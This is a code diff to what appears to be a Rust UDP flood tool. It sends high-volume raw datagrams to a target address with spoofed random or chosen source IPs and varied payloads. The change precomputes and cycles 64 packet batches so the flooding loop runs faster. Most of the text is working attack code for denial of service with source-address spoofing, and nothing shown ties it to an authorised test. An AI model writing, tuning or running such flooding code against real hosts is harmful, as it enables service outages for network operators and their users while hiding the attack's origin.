@@ -13,8 +13,9 @@ use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg};
 use serde_json::json;
 use socket2::{Domain, Protocol, Socket, Type};
 
-/// Packets of one system call.
+/// Packets of one system call, and how many different batches there are.
 const BATCH: usize = 64;
+const BATCHES: usize = 64;
 const IP_HEADER: usize = 20;
 const UDP_HEADER: usize = 8;
 
@@ -51,23 +52,17 @@ fn flood(args: &Args) -> Result<()> {
     let to = [Some(SockaddrIn::from(args.target)); BATCH];
     let mut headers = MultiHeaders::preallocate(BATCH, None);
     let mut dice = Dice(0x9e37_79b9_7f4a_7c15);
+    let batches: Vec<_> = (0..BATCHES).map(|n| batch(args, n, &mut dice)).collect();
     let (began, mut sent) = (Instant::now(), 0_u64);
+    let mut batches = batches.iter().cycle();
     while began.elapsed().as_secs_f64() < args.seconds {
         if args.rate > 0 {
             let due = Duration::from_secs_f64(sent as f64 / args.rate as f64);
             std::thread::sleep(due.saturating_sub(began.elapsed()));
         }
-        let packets: Vec<_> = (0..BATCH)
-            .map(|n| {
-                let n = sent as usize + n;
-                let source = match args.source.as_slice() {
-                    [] => dice.source(),
-                    sources => sources[n / KINDS.len() % sources.len()],
-                };
-                let kind = args.kind.unwrap_or(n) % KINDS.len();
-                datagram(source, args.target, &dice.payload(KINDS[kind]))
-            })
-            .collect();
+        let Some(packets) = batches.next() else {
+            break;
+        };
         let slices: Vec<_> = packets.iter().map(|p| [IoSlice::new(p)]).collect();
         let flags = MsgFlags::empty();
         match sendmmsg(socket.as_raw_fd(), &mut headers, &slices, to, [], flags) {
@@ -79,6 +74,19 @@ fn flood(args: &Args) -> Result<()> {
     let seconds = began.elapsed().as_secs_f64();
     println!("{}", json!({"sent": sent, "seconds": seconds}));
     Ok(())
+}
+
+fn batch(args: &Args, number: usize, dice: &mut Dice) -> Vec<Vec<u8>> {
+    let packet = |n: usize| {
+        let n = number * BATCH + n;
+        let source = match args.source.as_slice() {
+            [] => dice.source(),
+            sources => sources[n % sources.len()],
+        };
+        let kind = args.kind.unwrap_or(n) % KINDS.len();
+        datagram(source, args.target, &dice.payload(KINDS[kind]))
+    };
+    (0..BATCH).map(packet).collect()
 }
 
 /// How a payload begins, and how long it is at least and at most.
